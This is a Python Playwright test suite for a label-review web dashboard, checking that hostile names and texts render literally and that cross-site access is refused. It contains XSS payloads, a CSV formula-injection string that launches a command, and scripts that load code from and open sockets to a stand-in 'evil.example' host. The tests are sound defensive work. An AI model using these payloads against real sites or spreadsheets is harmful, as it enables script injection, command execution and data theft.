"""Names, texts and notes that would run, link or break out, shown as the characters they are."""

from __future__ import annotations

import csv
import re
from urllib.parse import urlencode

import pytest
from elsewhere import elsewhere
from frame import looking_at
from playwright.sync_api import Locator, Page, expect
from waiting import at_rest

from labelreview.core.configuration import Configuration
from labelreview.decision_log import Decision
from labelreview.experiments import ExperimentOptions
from labelreview.findings.filter import Filter
from labelreview.findings.findings import Findings
from labelreview.review.conflicts import conflicts_of
from labelreview.ui.context.page_registry import PAGES
from labelreview.workspace import Workspace

pytestmark = pytest.mark.browser

IMG = "<img src=x onerror=alert(1)>"
LABELS = (
    IMG,
    "<script>alert(2)</script>",
    ":red[x] **b** $x^2$ :smile:",
    "[a](javascript:alert(3)) `c` \u202egnp",
    "=HYPERLINK(1) " + "L" * 10_000,
)
DATASET = f"{IMG} **b** :red[x]"
NOTE = f"{IMG} <b>note</b>"
TEXTS = (
    "<script>alert(4)</script> post {i} <b>bold</b> $x^2$ **b**",
    "[link {i}](javascript:alert(5)) ![i](x.png) :red[x]",
    "W" * 3_000 + " {i}",
    "\u202eright to left\u202c {i} شكرا 👩‍👩‍👧‍👦🏳️‍🌈",
    "=cmd|' /C calc'!A{i} \"quoted\", comma",
)
COLUMNS = {"text": "<u>text</u> :red[t]", "label": "label **b** $y$", "more": IMG}
HEADINGS = {
    "load": "In this workspace",
    "score": "Runs",
    "overview": "Worth a look",
    "examples": "Review one by one",
    "map": "Islands",
    "queue": "decided",
    "grid": "Hide typical cards",
    "conflicts": "groups decided",
    "experiments": "Experiment results",
    "export": "Decision log",
    "predict": "appear here",
}
"""Page -> words that are on it when it is drawn."""
NAMELESS = ("examples", "queue", "grid", "conflicts")  # only the sidebar says which dataset it is
# Elements that names and texts must not become: what is between their tags tells them from ours.
ALIEN = (
    "[data-testid=stMain] "
    ":is(img[src='x'], img[src='x.png'], u, script:not([src]), "
    "b:text-is('bold'), b:text-is('note'), strong:text-is('b')), "
    "a[href^='javascript:'], .katex"
)


@pytest.fixture(scope="module")
def space(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "hostile.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(COLUMNS.values())
        for i in range(150):
            wrong = i % 7 == 0
            label = LABELS[(i + wrong) % len(LABELS)]
            writer.writerow([TEXTS[i % len(TEXTS)].format(i=i), label, IMG])
    made = Workspace.open(folder / "workspace")
    made.import_dataset(
        file, name=DATASET, text_column=COLUMNS["text"], label_column=COLUMNS["label"]
    )
    made.score(DATASET, Configuration(folds=3))
    findings = made.findings(DATASET)
    one = findings.labels_of(findings.ids(Filter(disagree=True), 1))[0]
    decision = Decision(one.example_id, "relabel", one.suggested_label, NOTE)
    findings.log.record([decision], IMG, seen_revision=0)
    made.experiment(DATASET, "retrain", ExperimentOptions(seeds=1, rows=None))
    return made


@pytest.fixture(scope="module")
def findings(space: Workspace) -> Findings:
    return space.findings(DATASET)


@pytest.fixture
def look(page: Page, url: str):
    """`look("queue")`: the page with the hostile dataset, at rest and unharmed."""
    page.on("dialog", lambda dialog: pytest.fail(f"a name ran as script: {dialog.message}"))
    page.on("pageerror", lambda error: pytest.fail(f"the page broke: {error}"))

    def look_(place: str, **query: str) -> Page:
        page.goto(f"{url}/{place}?{urlencode({'dataset': DATASET, **query})}")
        expect(looking_at(page)).to_be_visible(timeout=60_000)
        at_rest(page)
        return page

    return look_


def unharmed(page: Page) -> None:
    assert page.locator(ALIEN).evaluate_all("all => all.map(e => e.outerHTML)") == []
    # Nothing is pushed out of the window.
    wide = "document.querySelector('[data-testid=stMain]')"
    assert page.evaluate(f"{wide}.scrollWidth - {wide}.clientWidth") <= 0
    assert page.get_by_text("This page failed").count() == 0


def main_text(page: Page) -> str:
    return literal(page.get_by_test_id("stMain"))


def literal(element: Locator) -> str:
    """What it says, without the marks that keep a name's direction to itself. Elements of our own
    have a root of their own, which is read, too."""
    text = element.evaluate(
        """function all(node) {
          const inside = [...(node.shadowRoot ? [node.shadowRoot] : []), ...node.childNodes]
          if (["STYLE", "SCRIPT"].includes(node.tagName)) return ""
          return node.nodeType === Node.TEXT_NODE ? node.data : inside.map(all).join("")
        }"""
    )
    return re.sub("[\u2066-\u2069]", "", text)


@pytest.mark.parametrize("place", HEADINGS)
def test_a_page_shows_names_literally(look, tmp_path, place: str) -> None:
    page = look(place)
    expect(page.get_by_text(HEADINGS[place]).first).to_be_visible(timeout=60_000)
    at_rest(page)
    page.screenshot(path=tmp_path / f"{place}.png")
    unharmed(page)
    if place in NAMELESS:
        assert any(label[:40] in main_text(page) for label in LABELS)
    else:
        assert DATASET in main_text(page)


def test_every_page_is_looked_at() -> None:
    assert set(HEADINGS) == {place.url_path for place in PAGES}


def test_the_queue_shows_labels_text_and_reasons_literally(look, findings) -> None:
    for label in (LABELS[0], LABELS[3], LABELS[4]):
        example = findings.ids(Filter(given=(label,), disagree=True), 1)[0]
        one = findings.one(example)
        page = look("queue", disagree="1", example=example)
        expect(page.locator('.review[data-state="ready"] .post')).to_have_attribute(
            "data-example", example
        )
        assert page.locator(".post").text_content() == one.text
        shown = literal(page.locator(".card .labels"))
        for name in (one.given_label, one.suggested_label):
            assert name[:40] in shown
        assert one.neighbours[0].text.split()[0][:40] in literal(page.locator("aside.why"))
        for name in LABELS:
            assert name[:40] in literal(page.locator(".classes"))
        for words in ("Keep", "Unsure", "Undo"):
            button = page.locator(".card").get_by_role("button", name=words)
            expect(button).to_be_in_viewport(ratio=1)
        unharmed(page)


def test_a_hostile_note_is_shown_literally_in_the_history(look, findings) -> None:
    example = findings.log.current()["example_id"].iloc[0]
    page = look("queue", example=example)
    expect(page.locator('.review[data-state="ready"] .post')).to_have_attribute(
        "data-example", example
    )
    shown = literal(page.locator("aside.why"))
    assert NOTE in shown
    assert IMG in shown.replace(NOTE, ""), "who decided it"
    unharmed(page)


@pytest.mark.parametrize("label", LABELS)
def test_the_grid_shows_texts_and_labels_literally(look, findings, tmp_path, label) -> None:
    page = look("grid", given=label)
    expect(page.locator(".card").first).to_be_visible(timeout=60_000)
    cards = page.locator(".card").evaluate_all("all => all.map(e => [e.card.id, e.card.text])")
    texts = findings.texts_of([example for example, _ in cards])
    assert len(cards) > 10
    for example, text in cards:
        assert text[:100] == texts[example][:100]
    page.locator(".card").first.click()
    page.screenshot(path=tmp_path / "grid.png")
    shown = literal(page.locator(".sheet"))
    assert cards[0][1][:40] in shown
    for name in LABELS:
        assert name[:20] in shown
    for name in ("rest", "undo"):
        expect(page.locator(f"[name={name}]")).to_be_in_viewport(ratio=1)
    unharmed(page)


def test_conflicts_show_texts_and_labels_literally(look, findings, tmp_path) -> None:
    first = conflicts_of(findings).page(1)[0]
    page = look("conflicts")
    expect(page.locator(".group .post")).to_be_visible(timeout=60_000)
    page.screenshot(path=tmp_path / "conflicts.png")
    assert (page.locator(".group .post").text_content() or "")[:100] in {
        one.text[:100] for one in first.members
    }
    shown = main_text(page)
    for one in first.members:
        assert one.current_label[:20] in shown
    unharmed(page)


def test_the_map_shows_texts_and_labels_literally(look, findings, tmp_path) -> None:
    for label in (LABELS[0], LABELS[2], LABELS[4]):
        example = findings.ids(Filter(given=(label,)), 1)[0]
        page = look("map", given=label, example=example)
        expect(page.locator("canvas.over[aria-label]")).to_be_visible(timeout=60_000)
        at_rest(page)
        page.screenshot(path=tmp_path / "map.png")
        expect(page.locator(".post")).to_have_text(findings.one(example).text)
        legend = page.locator(".legend button").all_text_contents()
        for name in LABELS:
            assert any(name in words for words in legend), name
        unharmed(page)


def test_filters_and_sentence_show_labels_literally(look, tmp_path) -> None:
    for label in LABELS:
        page = look("examples", given=label, text=IMG)
        for one in Filter(given=(label,), text=IMG).restrictions():
            assert one.words[:50] in main_text(page)
        expect(page.get_by_role("button", name="Clear all")).to_be_in_viewport()
        unharmed(page)
    page.screenshot(path=tmp_path / "examples-long.png")


def test_links_with_hostile_values_give_a_literal_sentence(look) -> None:
    for query in ({"status": IMG}, {"sort": IMG}, {"run": IMG}, {"dataset": f"{IMG}2"}):
        page = look("examples", **query)
        alert = page.get_by_role("alert").first
        expect(alert).to_contain_text(IMG)
        unharmed(page)


def test_deciding_together_shows_labels_literally(look, findings) -> None:
    page = look("examples", disagree="1")
    page.get_by_role("button", name="that match the filter").click()
    page.get_by_role("button", name="Accept suggestion").click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_text("→").first).to_be_visible()
    at_rest(page)
    assert IMG in re.sub("[\u2066-\u2069]", "", dialog.text_content() or "")
    unharmed(page)
    assert dialog.locator("img, b, u, script, .katex").count() == 0
    dialog.get_by_role("button", name="Cancel").click()
    assert findings.log.revision() == 1


def test_loading_a_hostile_file_shows_columns_and_classes_literally(look, space, tmp_path) -> None:
    page = look("load")
    source = space.settings.folder.parent / "hostile.csv"
    page.get_by_role("textbox", name="Or enter a path").fill(str(source))
    page.get_by_role("button", name="Read file").click()
    expect(page.get_by_text("The first 8 of 150 rows.")).to_be_visible()
    at_rest(page)
    page.screenshot(path=tmp_path / "load-file.png")
    unharmed(page)


@pytest.mark.parametrize("text", [IMG, *(text.format(i=1) for text in TEXTS)])
def test_a_text_that_is_tried_is_shown_literally(look, tmp_path, text: str) -> None:
    page = look("predict")
    field = page.get_by_role("textbox", name="Texts, one per line")
    for asked in (text, f"{text}\n{LABELS[2]}"):
        field.fill(asked)
        page.get_by_role("button", name="Predict").click()
        expect(page.get_by_text("Nearest examples")).to_be_visible(timeout=60_000)
        at_rest(page)
        assert page.locator("p.post").text_content() == text.strip()
        unharmed(page)
    page.screenshot(path=tmp_path / "predict.png")


INJECT = """other => new Promise(done => {
    const refused = new Set()
    const stop = () => done([...refused].sort())
    document.addEventListener("securitypolicyviolation", event => {
        refused.add(event.blockedURI.startsWith("ws") ? "websocket" : event.effectiveDirective)
        if (refused.size === 8) stop()
    })
    setTimeout(stop, 10_000)
    const place = document.body.appendChild(document.createElement("div"))
    place.innerHTML = `<img src="${other}/a.png"><p style="background: url(${other}/b.png)">p</p>
        <button onclick="alert(1)"></button><iframe src="${other}/c"></iframe>
        <link rel="stylesheet" href="${other}/d.css"><object data="${other}/e"></object>`
    place.querySelector("button").click()
    place.append(Object.assign(document.createElement("script"), {textContent: "alert(2)"}))
    place.append(Object.assign(document.createElement("script"), {src: `${other}/f.js`}))
    fetch(`${other}/g`, {mode: "no-cors"}).catch(() => null)
    new WebSocket(`${other.replace("http", "ws")}/h`)
})"""


def test_what_becomes_an_element_neither_runs_nor_fetches(look) -> None:
    """Should a text ever get so far."""
    with elsewhere("") as other:
        page = look("export")
        asked: list[str] = []
        page.on("requestfinished", lambda request: asked.append(request.url))
        refused = page.evaluate(INJECT, f"http://evil.example:{other}")
    assert refused == ["connect-src", "frame-src", "img-src", "object-src", "script-src-attr",
                       "script-src-elem", "style-src-elem", "websocket"]  # fmt: skip
    assert not [url for url in asked if "evil" in url]


STEAL = """address => new Promise(done => {
    const socket = new WebSocket(address)
    socket.onopen = () => done("open")
    socket.onerror = () => done("refused")
})"""


def test_another_website_neither_reaches_nor_shows_the_dashboard(page: Page, url: str) -> None:
    port = url.rpartition(":")[2]
    # A name that its owner has pointed at this machine.
    rebound = page.goto(f"http://evil.example:{port}/queue")
    assert rebound is not None
    assert rebound.status == 403
    expect(page.get_by_text("does not answer to the name in this address")).to_be_visible()
    stream = f"ws://evil.example:{port}/_stcore/stream"
    assert page.evaluate(STEAL, stream) == "refused"
    # Another server of this machine, by each of its names, and a website.
    frame = f'<iframe src="{url}/queue"></iframe><a href="{url}/overview">a link</a>'
    reading = "([address, mode]) => fetch(address, {mode}).then(() => 'read', () => '')"
    with elsewhere(frame) as other:
        for name in ("127.0.0.1", "localhost", "evil.example"):
            with page.expect_response(f"{url}/queue") as framed:
                page.goto(f"http://{name}:{other}/")
            assert framed.value.status == 403
            assert page.frame_locator("iframe").get_by_text("Queue").count() == 0
            assert page.evaluate(STEAL, f"ws://127.0.0.1:{port}/_stcore/stream") == "refused"
            for asked in ("/_stcore/health", "/queue", "/favicon.png"):
                for mode in ("cors", "no-cors"):
                    assert page.evaluate(reading, [url + asked, mode]) == ""
        # But its links lead here.
        page.get_by_role("link", name="a link").click()
        expect(looking_at(page)).to_be_visible(timeout=60_000)
    assert page.evaluate(STEAL, f"ws://127.0.0.1:{port}/_stcore/stream") == "open"
